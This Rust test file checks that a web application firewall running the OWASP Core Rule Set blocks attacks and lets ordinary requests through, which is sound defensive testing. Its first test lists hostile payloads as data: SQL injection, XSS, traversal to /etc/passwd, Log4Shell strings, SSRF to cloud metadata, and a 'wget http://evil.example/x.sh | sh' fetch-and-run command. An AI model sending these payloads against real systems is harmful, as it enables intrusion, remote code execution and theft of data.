//! The Core Rule Set at paranoia level 1, blocking: attacks are refused by the rules that are meant to, ordinary
//! requests pass without a single detection.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout
)]

mod exchange;

use std::sync::{Arc, OnceLock};

use exchange::{Exchange, form, get, post};
use palisade_model::documents::{GroupMode, Mode};
use palisade_waf::{Engine, InterruptionKind};

fn crs() -> Option<Arc<Engine>> {
    static ENGINE: OnceLock<Option<Arc<Engine>>> = OnceLock::new();
    let compiled = ENGINE.get_or_init(|| {
        let directory = exchange::crs_directory()?;
        let mut policy = exchange::policy();
        policy.paranoia_level = Some(1);
        let set = exchange::crs(&directory, "", "");
        Some(Arc::new(Engine::compile(&set, &policy).unwrap_or_else(|error| panic!("{error}"))))
    });
    compiled.clone()
}

fn browser(exchange: Exchange) -> Exchange {
    exchange
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
        .header("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        .header("Accept-Language", "en-US,en;q=0.5")
}

#[test]
fn attacks_are_blocked_by_the_rules_that_are_meant_to() {
    let Some(engine) = crs() else { return };
    let cases: Vec<(&str, Exchange, u64)> = vec![
        ("SQLi", get("/search?q=1%27%20OR%20%271%27=%271"), 942100),
        ("SQLi in a form", form("/login", "user=admin'--+-&password=x%27+or+1%3D1--"), 942100),
        ("XSS", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 941100),
        ("path traversal", get("/download?file=../../../../etc/passwd"), 930120),
        ("path traversal, raw", get("/static/../../../../etc/passwd"), 930110),
        ("encoded traversal", get("/download?file=..%2f..%2f..%2fetc%2fpasswd"), 930100),
        ("command injection", get("/ping?host=127.0.0.1;cat%20/etc/passwd"), 932160),
        ("Log4Shell", get("/").header("X-Api-Version", "${jndi:ldap://evil.example/a}"), 944150),
        ("Log4Shell in a query", get("/?x=${jndi:ldap://evil.example/a}"), 944150),
        ("SQLi in JSON", post("/api", "application/json", r#"{"user":{"name":"x' OR '1'='1"}}"#), 942100),
        ("XSS in JSON", post("/api", "application/json", r#"["<script>alert(1)</script>"]"#), 941100),
        ("XSS in a cookie", get("/").header("Cookie", "pref=<script>alert(1)</script>"), 941100),
        ("SQLi in a cookie", get("/").header("Cookie", "id=1' UNION SELECT password FROM users--"), 942100),
        (
            "command injection in a form",
            form("/run", "cmd=%3B+wget+http%3A%2F%2Fevil.example%2Fx.sh+%7C+sh"),
            932235,
        ),
        ("PHP injection", form("/", "x=%3C%3Fphp+system%28%27id%27%29%3B"), 933100),
        ("SSRF to cloud metadata", get("/fetch?url=http://169.254.169.254/latest/meta-data/"), 934110),
        ("a scanner", get("/").header("User-Agent", "sqlmap/1.7"), 913100),
        ("a double-encoded script", get("/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), 941110),
        ("a text that is no form", post("/api", "text/plain", "<script>alert(1)</script>"), 920420),
    ];
    for (name, exchange, rule) in cases {
        let outcome = browser(exchange).run(&engine);
        let interruption = outcome.interruption.as_ref().unwrap_or_else(|| panic!("{name} passed"));
        assert_eq!((interruption.rule, interruption.status.as_u16()), (949110, 403), "{name}");
        assert!(outcome.ids().contains(&rule), "{name}: {rule} is not among {:?}", outcome.ids());
        assert!(
            interruption.explanation.starts_with("Inbound Anomaly Score Exceeded (Total Score: "),
            "{name}"
        );
    }
}

#[test]
fn ordinary_requests_pass_without_a_detection() {
    let Some(engine) = crs() else { return };
    let cases = vec![
        ("navigation", get("/")),
        ("an asset with a version", get("/static/app.min.js?v=3.2.1")),
        ("search with an apostrophe", get("/search?q=O%27Brien+%26+Sons+(Ltd.)&page=2")),
        ("a sentence", get("/search?q=how+to+select+a+table+from+the+catalogue")),
        (
            "cookies",
            get("/account").header("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en"),
        ),
        (
            "form",
            form(
                "/contact",
                "name=Jane+Doe&email=jane.doe%40example.com&message=Hello%2C+I+can%27t+log+in.+Thanks%21",
            ),
        ),
        ("JSON", post("/api/orders", "application/json", r#"{"items":[{"sku":"A-17","count":2}],"note":"Leave at Mike's door","price":19.99,"gift":true}"#)),
        ("JSON with a charset", post("/api", "application/json; charset=utf-8", r#"{"email":"jane.doe@example.com"}"#)),
        ("a token", get("/api/me").header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U")),
        ("a date range", get("/report?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z&sort=-created")),
        ("an encoded path", get("/files/M%C3%BCller%20%26%20Co.pdf")),
        ("a preflight", Exchange { method: "OPTIONS".into(), ..get("/api").header("Access-Control-Request-Method", "POST") }),
        ("HEAD", Exchange { method: "HEAD".into(), ..get("/") }),
        ("a page", get("/").answered(200, "text/html", "<html><body><h1>It works</h1></body></html>")),
    ];
    for (name, exchange) in cases {
        let outcome = browser(exchange).run(&engine);
        assert_eq!(outcome.ids(), Vec::<u64>::new(), "{name}: {:?}", outcome.matches);
        assert_eq!(outcome.interruption, None, "{name}");
    }
}

#[test]
fn leaks_in_responses_are_blocked_by_the_outbound_score() {
    let Some(engine) = crs() else { return };
    let leak = "<b>Warning</b>: mysql_fetch_array(): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version";
    let outcome = browser(get("/").answered(200, "text/html", leak)).run(&engine);
    assert_eq!((outcome.blocked_by(), outcome.phase), (Some(959100), Some(4)), "{:?}", outcome.ids());
    assert!(outcome.ids().contains(&951230), "{:?}", outcome.ids());
}

#[test]
fn a_group_in_detect_mode_lets_its_attacks_pass_and_blocks_the_others() {
    let Some(directory) = exchange::crs_directory() else { return };
    let mut policy = exchange::policy();
    policy.groups = vec![GroupMode { tag: Some("attack-sqli".into()), ids: None, mode: Mode::Detect }];
    let set = exchange::crs(&directory, "", "");
    let engine = Arc::new(Engine::compile(&set, &policy).unwrap());
    let sqli = browser(get("/search?q=1%27%20OR%20%271%27=%271")).run(&engine);
    assert_eq!(sqli.interruption, None);
    let found = sqli.matches.iter().find(|found| found.id == 942100).expect("it is still logged");
    assert!(found.detect_only);
    let xss = browser(get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")).run(&engine);
    assert_eq!(xss.blocked_by(), Some(949110));
}

#[test]
fn a_policy_that_only_detects_shows_what_it_would_block() {
    let Some(directory) = exchange::crs_directory() else { return };
    let mut policy = exchange::policy();
    policy.mode = Mode::Detect;
    let engine = Arc::new(Engine::compile(&exchange::crs(&directory, "", ""), &policy).unwrap());
    let outcome = browser(get("/search?q=1%27%20OR%20%271%27=%271")).run(&engine);
    assert_eq!(outcome.interruption, None);
    assert!(outcome.ids().contains(&949110), "{:?}", outcome.ids());
    assert!(outcome.matches.iter().all(|found| found.detect_only));
}

#[test]
fn exclusions_of_the_user_work_on_crs() {
    let Some(directory) = exchange::crs_directory() else { return };
    let after = "SecRuleUpdateTargetByTag attack-sqli !ARGS:comment\nSecRuleRemoveById 941000-941999";
    let before = "SecRule REQUEST_FILENAME \"@streq /admin\" \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:sql\"";
    let set = exchange::crs(&directory, before, after);
    let engine = Arc::new(Engine::compile(&set, &exchange::policy()).unwrap());
    let attack = "1%27%20OR%20%271%27=%271";
    for (uri, blocked) in [
        (format!("/?comment={attack}"), false),
        (format!("/?other={attack}"), true),
        (format!("/admin?sql={attack}"), false),
        (format!("/other?sql={attack}"), true),
    ] {
        let outcome = browser(get(&uri)).run(&engine);
        assert_eq!(outcome.blocked_by().is_some(), blocked, "{uri}: {:?}", outcome.ids());
    }
}

#[test]
fn the_largest_body_that_is_inspected_fits_the_work_budget() {
    let Some(directory) = exchange::crs_directory() else { return };
    let mut policy = exchange::policy();
    policy.paranoia_level = Some(4);
    let engine = Arc::new(Engine::compile(&exchange::crs(&directory, "", ""), &policy).unwrap());
    let limit = palisade_model::limits::INSPECTED_BODY_BYTES;
    let sentence = "It's a long text, (really) long & with 100% of what people write; isn't it? ";
    let text = sentence.repeat(limit / sentence.len());
    let fields: String = (0..900).map(|n| format!("\"field{n}\":\"{}\",", &sentence[..70])).collect();
    for (name, exchange) in [
        ("one field", form("/", &format!("text={}", text.replace('&', "%26")))),
        ("text", post("/", "text/plain", &text)),
        ("many fields", post("/", "application/json", &format!("{{{}\"end\":1}}", fields))),
    ] {
        let outcome = browser(exchange).run(&engine);
        assert!(outcome.ids().contains(&942432) || outcome.ids().contains(&920420), "{name}: the rules ran");
        let kind = outcome.interruption.map(|interruption| interruption.kind);
        assert_ne!(kind, Some(InterruptionKind::WorkBudget), "{name}");
    }
}
